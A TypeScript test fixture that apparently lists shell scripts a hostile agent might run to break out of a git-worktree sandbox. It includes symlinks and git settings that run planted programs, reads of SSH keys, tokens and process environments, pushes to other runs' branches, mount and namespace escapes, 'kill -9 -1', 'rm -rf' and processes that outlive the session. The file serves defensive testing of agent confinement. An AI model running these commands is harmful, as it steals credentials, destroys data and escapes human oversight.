// What a hostile agent types: one line for each way in that was ever found or feared. Each is a script of the shell,
// which begins in the worktree. These variables name what it is after:
// - HOME_OF, KEPT: the home of the runner's user, and a folder of that user beside it
// - RUNNER, TOKEN: the runner's folder, and the file with its token
// - MIRROR, OTHER, OTHER_ID: the repository's mirror, another repository's mirror, and a commit of that
// - VICTIM: the worktree of another run, in which an agent works
// - MARK: an argument for `sleep`, by which a process that stays is found
// `loot` prints what can be read and leaves it in the worktree, so that it would be reported and pushed. `outside` says
// that an attempt has worked which leaves no other trace.

const gitLinks = ["index", "logs/HEAD", "COMMIT_EDITMSG", "MERGE_MSG", "HEAD", "packed-refs", "ORIG_HEAD", "config"];
/** Each with the file of the user that it leads to, and a name that would be a line of that file. */
const linksInGit = Object.fromEntries(
  gitLinks.flatMap((name, index) => {
    const aim = ["$HOME_OF/.ssh/authorized_keys2", "$HOME_OF/.bashrc", "$TOKEN", "$MIRROR/config"][index % 4];
    return [
      [
        `a link in place of .git/${name}`,
        `mkdir -p .git/logs; rm -f .git/${name}; ln -s ${aim} .git/${name}; : >"$(printf 'x\\nssh-ed25519 AAAA\\ny')"`,
      ],
    ];
  }),
);

/** Settings of git that run a program, or send git elsewhere. */
const settings = {
  "core.fsmonitor": "$PWD/evil",
  "core.sshCommand": "$PWD/evil",
  "core.hooksPath": "$PWD/hooks",
  "core.editor": "$PWD/evil",
  "core.pager": "$PWD/evil",
  "core.askPass": "$PWD/evil",
  "core.gitProxy": "$PWD/evil",
  "core.attributesFile": "$HOME_OF/.bashrc",
  "core.excludesFile": "$HOME_OF/.bashrc",
  "core.worktree": "$HOME_OF",
  "alias.add": "!$PWD/evil",
  "http.proxy": "http://127.0.0.1:9",
  "gpg.program": "$PWD/evil",
  "commit.gpgSign": "true",
  "credential.helper": "!$PWD/evil",
  "uploadpack.packObjectsHook": "$PWD/evil",
  "url.$OTHER.insteadOf": "$(git config remote.origin.url)",
  "remote.origin.url": "$OTHER",
  "remote.origin.pushurl": "$OTHER",
  "remote.origin.uploadpack": "$PWD/evil",
  "remote.origin.receivepack": "$PWD/evil",
  "include.path": "$HOME_OF/.ssh/id_ed25519",
  "extensions.partialClone": "origin",
  "extensions.worktreeConfig": "true",
  "fetch.fsckObjects": "false",
  "diff.external": "$PWD/evil",
  "merge.evil.driver": "$PWD/evil",
  "submodule.recurse": "true",
  "core.sharedRepository": "0777",
  "core.repositoryFormatVersion": "99",
};
const program = `printf '#!/bin/sh\\necho evil >>$KEPT/ran; echo evil >>$HOME_OF/.bashrc; cat' >evil; chmod +x evil`;
const settingsOfGit = Object.fromEntries(
  Object.entries(settings).map(([name, value]) => [
    `the setting ${name}`,
    `${program}; mkdir hooks; cp evil hooks/reference-transaction; cp evil hooks/post-index-change; git config "${name}" "${value}"`,
  ]),
);

const replacements = {
  "a link to a mirror": "ln -s $MIRROR .git",
  "a link to another mirror": "ln -s $OTHER .git",
  "a link to the home": "ln -s $HOME_OF .git",
  "a file that names a mirror": 'echo "gitdir: $MIRROR" >.git',
  "a file that names another worktree": 'echo "gitdir: $VICTIM/.git" >.git',
  "a FIFO": "mkfifo .git",
  nothing: ":",
};
const gitReplaced = Object.fromEntries(
  Object.entries(replacements).map(([name, script]) => [`${name} in place of .git`, `mv .git old; ${script}`]),
);

const pipes = [".git/index", ".git/config", ".git/HEAD", ".git/packed-refs", ".git/info/exclude", ".gitattributes"];
const pipesForGit = Object.fromEntries(
  [...pipes, ".gitignore", ".gitmodules", ".git/info/attributes", ".git/objects/info/alternates"].map((name) => [
    `a FIFO in place of ${name}`,
    `rm -f ${name}; mkdir -p .git/info; mkfifo ${name}`,
  ]),
);

const answers = {
  "a link to a file with a secret": "ln -s $HOME_OF/.docker/config.json $F",
  "a link to the token": "ln -s $TOKEN $F",
  "a FIFO": "mkfifo $F",
  "a device": "ln -s /dev/zero $F",
  "a folder": "mkdir $F",
  "a file of 200 MB": "head -c 200000000 /dev/zero >$F",
  "deep JSON": "head -c 900000 /dev/zero | tr '\\0' '[' >$F",
};
const answersLeft = Object.fromEntries(
  Object.entries(answers).map(([name, script]) => [
    `${name} in place of the answer and the usage`,
    `for F in "$SWITCHYARD_OUTPUT_FILE" "$SWITCHYARD_USAGE_FILE"; do test -z "$F" && continue; rm -rf "$F"; ${script}; done`,
  ]),
);

const places = "$HOME_OF $KEPT $RUNNER $TOKEN $VICTIM $OTHER $MIRROR /root /home /var /srv /run /tmp /mnt /media";
const commitAll = "git add -A; git -c user.name=A -c user.email=a@b.invalid commit -q -m evil";
const identity = "git -c user.name=A -c user.email=a@b.invalid";

export const attempts: Readonly<Record<string, string>> = {
  ...linksInGit,
  ...settingsOfGit,
  ...gitReplaced,
  ...pipesForGit,
  ...answersLeft,

  // Objects.
  "loose objects that are replaced": `echo poisoned >README.md; ${commitAll}; new=$(git rev-parse HEAD:README.md); old=$(git rev-parse HEAD~:README.md); for o in .git/objects $MIRROR/objects; do to=$o/$(echo $old | cut -c1-2); mkdir -p $to; rm -f $to/$(echo $old | cut -c3-); cp .git/objects/$(echo $new | cut -c1-2)/$(echo $new | cut -c3-) $to/$(echo $old | cut -c3-); done; git reset -q --hard HEAD~`,
  "alternates of another repository, and its commit as a parent": `echo $OTHER/objects >>.git/objects/info/alternates; c=$(printf 'tree %s\\nparent %s\\nparent %s\\nauthor A <a@b> 1 +0000\\ncommitter A <a@b> 1 +0000\\n\\nx\\n' $(git rev-parse HEAD^{tree}) $(git rev-parse HEAD) $OTHER_ID | git hash-object -t commit -w --literally --stdin); echo $c >.git/HEAD`,
  "the commit of another repository checked out": `echo $OTHER/objects >>.git/objects/info/alternates; echo $OTHER_ID >.git/HEAD; git reset -q --hard`,
  "the commit of another repository as a submodule": `git update-index --add --cacheinfo 160000,$OTHER_ID,stolen; ${commitAll}`,
  "alternates that lead in a circle": "echo $PWD/.git/objects >>.git/objects/info/alternates",
  "no alternates": "rm -f .git/objects/info/alternates",
  "the mirror's objects destroyed": "rm -rf $MIRROR/objects $OTHER/objects; chmod -R 0 $MIRROR",
  "writing among the mirror's objects": `(echo x >$MIRROR/objects/evil) && outside; (mkdir $MIRROR/objects/pack/evil) && outside; (rm -rf $MIRROR/objects/info) && test ! -e $MIRROR/objects/info && outside`,
  "a link in place of .git/objects": "mv .git/objects o; ln -s $MIRROR/objects .git/objects; echo x >x; git add x",
  "a link in place of .git/objects/pack": "rm -rf .git/objects/pack; ln -s $OTHER/objects/pack .git/objects/pack",
  "broken loose objects": `echo x >x; ${commitAll}; find .git/objects -type f | while read f; do chmod 600 $f; echo broken >$f; done`,
  "objects replaced by refs/replace": `echo poisoned >README.md; ${commitAll}; git replace HEAD~ HEAD; git reset -q --hard HEAD`,
  grafts: "git rev-parse HEAD >.git/info/grafts; git rev-parse HEAD >.git/shallow",
  "a tree with a folder .git": `b=$(echo x | git hash-object -w --stdin); t=$(printf "100644 blob $b\\tconfig\\n" | git mktree); printf "40000 .git\\0" >raw; echo $t | sed 's/../\\\\x&/g' | xargs -0 printf >>raw 2>/dev/null; t=$(git hash-object -t tree -w --literally raw); c=$(${identity} commit-tree -p HEAD -m evil $t); echo $c >.git/HEAD`,
  "a pack of much that does not compress": `head -c 30000000 /dev/urandom >big; ${commitAll}; git repack -q -a -d; rm big`,
  "gc and prune":
    "git gc -q --prune=now; git prune --expire=now; git reflog expire --expire=now --all; git repack -q -a -d -f",

  // Refs and the index.
  "a HEAD that is detached and moved behind": `echo x >x; ${commitAll}; git checkout -q --detach HEAD~; git update-ref -d refs/heads/main`,
  "a HEAD without a parent": `git checkout -q --orphan alone; echo x >x; ${commitAll}`,
  "a HEAD that names nothing": 'echo "ref: refs/heads/none" >.git/HEAD',
  "a HEAD that leads out": 'echo "ref: ../../../../home/.bashrc" >.git/HEAD',
  "a HEAD in itself":
    'echo "ref: refs/heads/a" >.git/HEAD; mkdir -p .git/refs/heads; echo "ref: refs/heads/a" >.git/refs/heads/a',
  "refs with strange names": `for n in '-x' 'a..b' 'HEAD' '--upload-pack=evil' 'x.lock' '@{1}'; do git rev-parse HEAD >".git/refs/heads/$n"; done; mkdir -p .git/refs/remotes/origin; echo rubbish >.git/refs/remotes/origin/main`,
  "refs that are broken": `echo 0000000000000000000000000000000000000bad >.git/refs/heads/broken; ln -s $HOME_OF/.bashrc .git/refs/heads/link; echo $OTHER_ID refs/heads/other >>.git/packed-refs`,
  "the branches of other runs moved": `echo x >x; ${commitAll}; git for-each-ref --format='%(refname)' | while read r; do git update-ref $r HEAD; done; git push -q --force origin HEAD:main HEAD:refs/heads/switchyard/run-1-1; git push -q --force $MIRROR HEAD:main`,
  "another branch checked out": `git checkout -q -b switchyard/run-1-1; echo x >x; ${commitAll}`,
  "an index with conflicts": `b=$(echo x | git hash-object -w --stdin); printf "100644 $b 1\\tREADME.md\\n100644 $b 2\\tREADME.md\\n100644 $b 3\\tREADME.md\\n" | git update-index --index-info`,
  "an index of rubbish": "head -c 10000 /dev/urandom >.git/index",
  "an index that names what is outside": `b=$(echo x | git hash-object -w --stdin); for p in ../../x /etc/x .git/config a/../../x; do printf "100644 $b 0\\t$p\\n" | git update-index --index-info; done; git update-index --assume-unchanged README.md; git update-index --skip-worktree README.md; echo hidden >README.md`,
  "locks everywhere":
    "find .git -type d | while read d; do : >$d/x.lock; done; for f in index HEAD config packed-refs shallow; do : >.git/$f.lock; done",
  "locks that are folders": "for f in index HEAD config; do mkdir -p .git/$f.lock/x; done",
  "a locked worktree": ": >.git/locked; : >.git/gc.pid",
  "a git folder of another kind":
    'echo "$MIRROR" >.git/commondir; echo "$VICTIM/.git" >.git/gitdir; echo "[core] worktree = $VICTIM" >.git/config.worktree',
  "hooks of every kind": `${program}; mkdir -p .git/hooks; for h in pre-commit post-commit post-checkout reference-transaction post-index-change pre-auto-gc pre-push update post-merge; do cp evil .git/hooks/$h; done`,
  "filters that run a program": `${program}; for k in clean smudge process; do git config filter.evil.$k $PWD/evil; done; git config filter.evil.required true; git config diff.evil.textconv $PWD/evil; printf '* filter=evil diff=evil merge=evil\\n' >.gitattributes`,
  "a filter that leaves a process": `git config filter.evil.clean "env -i setsid sleep $MARK & cat"; printf '* filter=evil\\n' >.gitattributes; echo x >x`,
  "submodules with hostile settings": `${program}; git init -q sub; git -C sub config core.fsmonitor $PWD/evil; git -C sub config core.worktree $HOME_OF; (cd sub; echo x >x; ${commitAll}); printf '[submodule "sub"]\\n\\tpath = sub\\n\\turl = ext::sh -c evil\\n\\tupdate = !%s/evil\\n' $PWD >.gitmodules; git config submodule.sub.update "!$PWD/evil"`,
  "a submodule that leads out": `printf '[submodule "../../x"]\\n\\tpath = -u./evil\\n\\turl = -u./evil\\n' >.gitmodules; ln -s $HOME_OF sub; git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),sub`,

  // The worktree.
  "links to files of the user":
    "ln -s $HOME_OF/.ssh/id_ed25519 key; ln -s $HOME_OF all; ln -s $TOKEN token; ln -s / root; ln -s $RUNNER runner",
  "links in place of tracked files": "rm README.md; ln -s $HOME_OF/.bashrc README.md",
  "a link in place of .switchyard": "rm -rf .switchyard; ln -s $HOME_OF .switchyard",
  "a FIFO in place of .switchyard": "rm -rf .switchyard; mkfifo .switchyard",
  "file names with line feeds and more": `: >"$(printf 'a\\nssh-ed25519 AAAA\\nb')"; : >"$(printf '\\001\\033]52;c;AAAA\\007')"; : >'-rf'; : >'--output=x'; : >':(exclude)*'; : >'$(touch evil)'`,
  "names that are not UTF-8": `: >"$(printf 'a\\377b')"; mkdir "$(printf '\\303')"; : >"$(printf '\\303/x')"`,
  "folders that nobody may enter": `mkdir -p shut/a shut/b "$(dirname $SWITCHYARD_PROMPT_FILE)/x/y"; : >shut/a/x; : >"$(dirname $SWITCHYARD_PROMPT_FILE)/x/y/z"; chmod 500 shut/a "$(dirname $SWITCHYARD_PROMPT_FILE)/x/y"; chmod 0 shut/b`,
  "git folders that nobody may write": "chmod -R a-w .git; chmod 0 .git/refs",
  "a worktree that nobody may enter": "chmod 0 .",
  "deep folders": "i=0; while test $i -lt 800; do mkdir d 2>/dev/null && cd d || break; i=$((i+1)); done; : >deep",
  "everything removed": "rm -rf ./* ./.[!.]*",
  "special files":
    "mkfifo pipe; mknod device c 1 3; python3 -c 'import socket; socket.socket(socket.AF_UNIX).bind(\"socket\")'",

  // Reading.
  "the user's files":
    "loot $HOME_OF/.ssh/id_ed25519 $HOME_OF/.bashrc $HOME_OF/.docker/config.json $KEPT/secret $TOKEN ~/.ssh/id_ed25519",
  "the runner's folder":
    "loot $RUNNER/*.json $RUNNER/state/* $RUNNER/../runner.json $OTHER/config $MIRROR/config $MIRROR/packed-refs",
  "other worktrees": "loot $VICTIM/private $RUNNER/worktrees/*/private; ls -la $RUNNER/worktrees",
  "another repository":
    "GIT_DIR=$OTHER git show $OTHER_ID:secret.txt | tee -a loot.txt; git --git-dir=$OTHER log -p --all | tee -a loot.txt; git clone -q $OTHER stolen",
  "the environment of every process":
    "for p in /proc/[0-9]*; do loot $p/environ $p/cmdline $p/root$TOKEN $p/cwd/runner.json; ls -l $p/fd; done",
  "what the runner handed over": "env >loot.txt; env; loot /proc/self/fd/4 /proc/self/mountinfo /proc/1/environ",
  "everything that can be found": `grep -rasI -m 3 "CANARY" ${places} /etc /opt 2>/dev/null | head -c 100000 | tee -a loot.txt`,

  // The machine.
  "a remount":
    "mount -o remount,rw,bind /usr; umount -l $MIRROR/objects; mount --bind /tmp /etc && outside; test -w /etc && outside; test -w /usr && outside; echo x >$MIRROR/objects/x",
  "a namespace with rights": `unshare --user --map-root-user --mount sh -c 'mount -o remount,rw,bind /etc; test -w /etc && outside; mount -t proc proc /proc; umount -l "$0"' $MIRROR/objects`,
  "another root": "mkdir r; mount --rbind / r; chroot r cat $TOKEN; pivot_root . r; nsenter -t 1 -a cat $TOKEN",
  "disks and devices":
    "mknod disk b 8 0; mknod memory c 1 1; test -r disk && outside; test -r memory && outside; ls /dev; ls /dev | grep -E '^(sd|vd|nvme|loop|mem|kmsg)' && outside",
  "settings of the kernel":
    "cat /proc/sys/kernel/core_pattern >/proc/sys/kernel/core_pattern && outside; echo h >/proc/sysrq-trigger && outside",
  "writing everywhere": `for d in $HOME_OF $KEPT $RUNNER $VICTIM $OTHER $MIRROR $MIRROR/hooks $OTHER/refs/heads; do echo evil >$d/evil; echo evil >>$d/.bashrc; rm -rf $d/* ; done; for d in /etc /usr /opt /bin /lib; do test -w $d && outside; done; echo evil >>$TOKEN; echo evil >$HOME_OF/.ssh/authorized_keys2`,
  "killing everybody": "kill -9 -1",
  "killing by number": "i=2; while test $i -lt 70000; do kill -9 $i; i=$((i+97)); done; kill -9 1",
  "processes that stay": `for i in 1 2 3; do env -i setsid sleep $MARK & done; (trap '' TERM HUP; exec setsid sleep $MARK) & env -i setsid sh -c "sleep $MARK & sleep $MARK" & :`,
  "a stopped parent": `env -i setsid sh -c 'kill -STOP $$; sleep 1' & sleep $MARK & kill -STOP $$`,
  "output without an end": "yes 'nothing to see' | head -c 3000000; exec >&-",
  "hostile output": `printf '\\033]52;c;AAAA\\007\\000\\377\\376\\n'; head -c 100000 /dev/urandom`,
};
